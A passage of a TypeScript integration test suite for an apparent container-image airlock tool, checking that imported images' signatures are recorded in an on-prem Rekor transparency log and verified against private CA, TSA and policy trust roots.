            '--insecure',
            '--json',
          ],
          'rk-air-wrong',
        );
        assert.equal(wrong.code, 1, wrong.stderr);
        assert.equal(JSON.parse(wrong.stdout).error.code, 'E_TLOG_CHECKPOINT');
        assert.deepEqual(await tags('rk-wrong/src'), []);
        const r = await imp();
        assert.equal(r.code, 0, r.stderr);
        const image = JSON.parse(r.stdout).images[0];
        assert.equal(image.logged.length, 1);
        const [logged] = image.logged;
        assert.equal(
          (await fetch(`${log.url}/checkpoint`).then((res) => res.text())).split('\n')[1],
          '1',
          'one entry in the on-prem log',
        );

        const root = join(dir, 'onprem-root.json');
        await writeTrustedRootFor(log, root);
        // No --insecure-ignore-tlog: only the bundle carrying the on-prem entry can pass.
        const results = await verifiesOnlyAugmented(image.pushedTo, logged.augmented, [
          '--key',
          join(dir, 'img.pub'),
          '--trusted-root',
          root,
        ]);
        assert.ok(
          results.some((x) => !x.ok && x.where === logged.referrer),
          'the bundle as packed has no entry of this log',
        );

        // A re-run logs nothing twice: the log returns the existing entry.
        const again = await imp();
        assert.equal(again.code, 0, again.stderr);
        assert.equal(JSON.parse(again.stdout).images[0].logged[0].logIndex, logged.logIndex);
        assert.equal((await fetch(`${log.url}/checkpoint`).then((res) => res.text())).split('\n')[1], '1');

        // The log out of reach: the import fails before anything is pushed or tagged.
        await log.stop();
        const down = await cli(
          [
            'import',
            pkg,
            '--registry',
            `${registry?.host}/rk-down`,
            ...signer(),
            ...trust(),
            '--rekor-url',
            log.url,
            '--rekor-vkey',
            vkey,
            '--insecure',
            '--json',
          ],
          'rk-air-2',
        );
        assert.equal(down.code, 3, down.stderr);
        assert.match(down.stderr, /E_TLOG_UPLOAD/);
        assert.deepEqual(await tags('rk-down/src'), []);
      });
    },
  );

  it(
    'logs a keyless signature under its certificate and a policy key signature under its key; a verifier ' +
      'trusting the CA, the TSA and only that log accepts the keyless image',
    async (t) => {
      if (!registry) return t.skip(`docker-registry unavailable: ${missingRegistry}`);
      const { createPrivateCa } = await import('../helpers/private-ca.ts');
      const { startTestTsa } = await import('../helpers/tsa.ts');
      const { attachKeylessSignature } = await import('../helpers/admission.ts');
      const SAN = 'https://ci.internal/org/app/.github/workflows/release.yml@refs/heads/main';
      const ISSUER = 'https://token.ci.internal';
      const [ca, tsa] = await Promise.all([createPrivateCa('corp fulcio'), startTestTsa()]);
      t.after(async () => {
        await tsa.stop();
        await ca.cleanup();
      });
      await withLog('kl-log', async (log) => {
        // The image, signed keyless on the connected side (a private CA's certificate and a TSA's timestamp).
        const store = await openLayoutStore(join(dir, 'kl-src'), { create: true });
        const { manifest } = await makeTestImage(store, { tag: 'app-2.0', layers: 1, layerSize: 4096 });
        const leaf = await ca.issueLeaf({ san: SAN, issuer: ISSUER });
        const leafDer = leaf.certDer;
        await attachKeylessSignature(store, manifest, { leaf, tsaUrl: tsa.url });
        await store.close();
        await writeFile(join(dir, 'kl-fulcio.pem'), ca.rootPem);
        await writeFile(join(dir, 'kl-tsa.pem'), tsa.chainPem.join(''));
        const start = '2026-01-01T00:00:00Z';
        const authorities = [
          `--fulcio=url=https://fulcio.internal,certificate-chain=${join(dir, 'kl-fulcio.pem')},start-time=${start}`,
          `--tsa=url=${tsa.url},certificate-chain=${join(dir, 'kl-tsa.pem')},start-time=${start}`,
        ];
        const rekorSpec =
          `--rekor=url=${log.url},public-key=${log.publicKeyPath},` + `start-time=${start},origin=${log.origin}`;
        for (const [out, extra] of [
          ['kl-root.json', []],
          ['kl-root-log.json', [rekorSpec]],
        ] as const) {
          const r = await cli(['trust', 'create', '--out', join(dir, out), ...authorities, ...extra], 'kl-pack');
          assert.equal(r.code, 0, r.stderr);
        }
        const keyless = ['--certificate-identity', SAN, '--certificate-oidc-issuer', ISSUER];
        const noLogs = ['--trusted-root', join(dir, 'kl-root.json'), '--tlog-threshold', '0', '--ctlog-threshold', '0'];
        const pkg = join(dir, 'kl.tar');
        const p = await pack(pkg, [], 'kl-pack', `oci:${join(dir, 'kl-src')}:app-2.0`, [...keyless, ...noLogs]);
        assert.equal(p.code, 0, p.stderr);
        const vkey = join(log.dataDir, 'log.vkey');
        const importTo = (source: string, repo: string, home: string, trustArgs: string[]) =>
          cli(
            [
              'import',
              source,
              '--registry',
              `${registry?.host}/${repo}`,
              ...signer(),
              ...trustArgs,
              '--rekor-url',
              log.url,
              '--rekor-vkey',
              vkey,
              '--insecure',
              '--json',
            ],
            home,
          );
        const entries = async () => (await fetch(`${log.url}/checkpoint`).then((res) => res.text())).split('\n')[1];

        const r = await importTo(pkg, 'kl', 'kl-air', [...keyless, ...noLogs]);
        assert.equal(r.code, 0, r.stderr);
        const image = JSON.parse(r.stdout).images[0];
        assert.equal(image.logged.length, 1);
        assert.equal(image.logged[0].verifier, 'certificate');
        assert.equal(await entries(), '1');
        const intent = (await verifyAuditLog(home('kl-air'))).events.find(
          (e) => e.event.action === 'transfer.import.log',
        );
        assert.deepEqual(intent?.event.details?.verifiers, [`certificate of ${SAN}`], 'recorded before logging');
        // cosign and sigstore-go rebuild the entry from the bundle's certificate (@sigstore/verify does not
        // compare the verifier): the entry must name that certificate, byte for byte.
        const entry = await loggedEntryBody(image.pushedTo, image.logged[0].augmented);
        const verifier = entry.spec.hashedRekordV002.signature.verifier;
        assert.equal(verifier.x509Certificate?.rawBytes, leafDer.toString('base64'));
        assert.equal(verifier.keyDetails, 'PKIX_ECDSA_P256_SHA_256');

        // The entry names the certificate as the bundle carries it: with the on-prem log as the only log
        // (a log entry required), only the bundle carrying that entry verifies.
        await verifiesOnlyAugmented(image.pushedTo, image.logged[0].augmented, [
          ...keyless,
          '--trusted-root',
          join(dir, 'kl-root-log.json'),
          '--ctlog-threshold',
          '0',
        ]);

        // --policy: an identity authority logs the same certificate entry (the log returns it); a key
        // authority logs the key-signed image under that key.
        await mkdir(join(dir, 'kl-policy'), { recursive: true });
        const policy = (name: string, authority: unknown) =>
          writeFile(
            join(dir, 'kl-policy', name),
            JSON.stringify({
              apiVersion: 'airlock/v1',
              kind: 'ImagePolicy',
              images: [{ glob: '**', authorities: [authority] }],
            }),
          );
        await policy('identity.json', { identity: { exact: SAN }, issuer: { exact: ISSUER } });
        await cp(join(dir, 'img.pub'), join(dir, 'kl-policy', 'img.pub'));
        await policy('key.json', { key: 'img.pub' });
        const byIdentity = await importTo(pkg, 'kl-policy', 'kl-air-policy', [
          '--policy',
          join(dir, 'kl-policy', 'identity.json'),
          ...noLogs,
        ]);
        assert.equal(byIdentity.code, 0, byIdentity.stderr);
        const logged = JSON.parse(byIdentity.stdout).images[0].logged;
        assert.deepEqual(
          logged.map((l: { verifier: string; logIndex: string }) => [l.verifier, l.logIndex]),
          [['certificate', image.logged[0].logIndex]],
        );
        const keyPkg = join(dir, 'kl-key.tar');
        assert.equal((await pack(keyPkg, [], 'kl-key-pack')).code, 0);
        const byKey = await importTo(keyPkg, 'kl-key', 'kl-air-key', [
          '--policy',
          join(dir, 'kl-policy', 'key.json'),
          '--insecure-ignore-tlog',
        ]);
        assert.equal(byKey.code, 0, byKey.stderr);
        assert.equal(JSON.parse(byKey.stdout).images[0].logged[0].verifier, 'key');
        assert.equal(await entries(), '2');
      });
    },
  );
});

/** Runs `body` with a fresh `airlock log serve` (key DIR/NAME.key, data DIR/NAME-data), killed afterwards. */
async function withLog(name: string, body: (log: TestLog) => Promise<void>): Promise<void> {
  const { makeLogKey, startLog } = await import('../helpers/log-server.ts');
  await makeLogKey(join(dir, name));
  const log = await startLog(join(dir, `${name}-data`), join(dir, `${name}.key`));
  try {
    await body(log);
  } finally {
    await log.kill().catch(() => undefined);
  }
}

/** `verify` of the pushed image accepts only the bundle carrying the on-prem entry; its results. */
async function verifiesOnlyAugmented(pushedTo: string, augmented: string, trustArgs: string[]) {
  const v = await cli(['verify', pushedTo, ...trustArgs, '--insecure', '--json']);
  assert.equal(v.code, 0, v.stderr);
  const results = JSON.parse(v.stdout).results as Array<{ where: string; ok: boolean }>;
  assert.deepEqual(
    results.filter((x) => x.ok).map((x) => x.where),
    [augmented],
  );
  return results;
}

/** The on-prem entry (its canonicalized body) that the augmented referrer `referrer` of `pushedTo` carries. */
async function loggedEntryBody(pushedTo: string, referrer: string) {
  const repo = pushedTo.slice(pushedTo.indexOf('/') + 1).replace(/[@:].*$/, '');
  const get = <T>(path: string, accept?: string) =>
    fetch(`${registry?.url}/v2/${repo}/${path}`, accept ? { headers: { accept } } : {}).then(
      (r) => r.json() as Promise<T>,
    );
  const manifest = await get<{ layers: Array<{ digest: string }> }>(
    `manifests/${referrer}`,
    'application/vnd.oci.image.manifest.v1+json',
  );
  const bundle = await get<{ verificationMaterial: { tlogEntries: Array<{ canonicalizedBody: string }> } }>(
    `blobs/${manifest.layers[0]?.digest}`,
  );
  const entry = bundle.verificationMaterial.tlogEntries.at(-1);
  return JSON.parse(Buffer.from(entry?.canonicalizedBody ?? '', 'base64').toString('utf8'));
}
